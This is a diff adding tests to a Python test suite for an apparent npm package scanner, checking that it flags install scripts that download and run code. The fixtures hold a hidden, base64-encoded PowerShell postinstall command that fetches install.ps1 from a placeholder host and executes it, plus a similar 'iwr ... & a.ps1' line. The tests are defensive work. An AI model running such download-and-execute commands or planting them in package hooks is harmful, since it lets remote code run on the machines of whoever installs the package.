@@ -9,7 +9,12 @@ import pytest
 
 from npmward.analyzers.base import AnalysisContext
 from npmward.analyzers.code.package import lifecycle_files
-from npmward.analyzers.install_scripts import InstallScriptAnalyzer, judge_command, lifecycle_entry_files
+from npmward.analyzers.install_scripts import (
+    COMMAND_SEPARATORS,
+    InstallScriptAnalyzer,
+    judge_command,
+    lifecycle_entry_files,
+)
 from npmward.model import Artifact, Level, PackageId, Severity
 from npmward.verdict import decide
 
@@ -1002,3 +1007,19 @@ def test_a_key_binding_that_types_a_build_command_is_not_flagged():
     art = _extension([{"key": "ctrl+shift+b", "command": "workbench.action.terminal.sendSequence",
                        "args": {"text": "npm run build\r"}}])
     assert decide(findings(art)).level is Level.CLEAN
+
+
+def test_a_decoded_powershell_script_that_saves_a_download_then_runs_it_on_a_later_line():
+    # blind set 42's win-host-facts: the -EncodedCommand script saves install.ps1 with -OutFile, then runs it with `&`
+    script = ("$d=\"$env:ProgramData\\HostFacts\"; New-Item -ItemType Directory -Force $d | Out-Null\n"
+              "Invoke-WebRequest -UseBasicParsing 'https://agent.example.invalid/install' -OutFile \"$d\\install.ps1\"\n"
+              "& \"$d\\install.ps1\"\n")
+    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
+    found = findings(artifact({"postinstall": f"powershell -NoP -W Hidden -EncodedCommand {encoded}"}))
+    assert "install-script/download-execute" in {f.rule for f in found}
+
+
+def test_powershell_call_operator_after_a_statement_is_not_a_background_separator():
+    assert COMMAND_SEPARATORS.split('iwr https://x.example/a -OutFile a.ps1; & "a.ps1"') == \
+        ["iwr https://x.example/a -OutFile a.ps1", '& "a.ps1"']
+    assert COMMAND_SEPARATORS.split("sleep 1 & echo done") == ["sleep 1", "echo done"]
